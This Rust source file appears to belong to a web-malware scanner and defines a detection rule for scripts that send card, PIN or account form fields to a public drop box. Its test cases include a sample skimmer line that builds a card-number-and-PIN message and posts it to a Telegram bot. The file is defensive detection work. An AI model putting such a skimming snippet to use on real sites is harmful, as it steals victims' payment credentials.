//! `secret-words-to-drop-box`.

use super::secret_near_drop_box::FORM_SERVICES;
use super::secret_to_drop_box::has_other_than_tables;
use crate::facts::Atom;
use crate::signals::answered::is_answer_read;
use crate::signals::near::Near;
use crate::signals::owners::owner_used;
use crate::signals::{Evidence, Held, Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-words-to-drop-box",
    description: "The script sends form fields to a public drop box in a message that names cards, accounts or codes.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FieldToDropBox]),
        several(2, &[Atom::SecretField, Atom::SecretWord, Atom::CardField]),
    ],
    within: 400,
    only_if: Some(is_told),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var m='No-Kartu: '+f.kartu.value+' PIN: '+f.pin.value;fetch('https://api.telegram.org/bot0:T/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:m})})",
        ],
        without: &[
            "var m='Name: '+f.name.value+' Text: '+f.text.value;fetch('https://api.telegram.org/bot0:T/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:m})})",
            r#"contact.onsubmit=async()=>{await fetch('https://formspree.io/f/m',{method:'POST',body:new FormData(contact)})};login.onsubmit=()=>signIn({mail:login.mail.value,password:login.password.value,remember:login.password.dataset.password})"#,
        ],
    },
};

/// Whether two texts or names are meant: one may be a secret in more than one way.
fn names_two(evidence: &Evidence<'_>, held: Held) -> bool {
    let facts = evidence.facts;
    let begin = facts.partition_point(|fact| fact.at < held.first);
    let mut named = facts[begin..]
        .iter()
        .take_while(|fact| fact.at <= held.last)
        .filter(|fact| matches!(fact.atom, Atom::SecretField | Atom::SecretWord | Atom::CardField));
    let first = named.next().map(|fact| fact.at);
    named.any(|fact| Some(fact.at) != first)
}

/// Whether two are named, and a field goes to something that is no table with answers, near it.
fn is_told(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let mut sent = near.places().filter(|at| near.has_fact_in(*at..at + 1, &[Atom::FieldToDropBox]));
    names_two(evidence, held)
        && sent.any(|at| {
            (has_other_than_tables(evidence) || !is_answer_read(near, at)) && is_no_form_of_its_own(near, at)
        })
}

/// Whether a request does not send a contact form as a whole to a service for forms: the page may sign in elsewhere.
fn is_no_form_of_its_own(near: Near<'_>, request: usize) -> bool {
    let of_service =
        owner_used(near, request).is_some_and(|owner| FORM_SERVICES.iter().any(|host| host.contains(owner)));
    !of_service || near.has_fact_in(request..request + 1, &[Atom::SecretToDropBox])
}
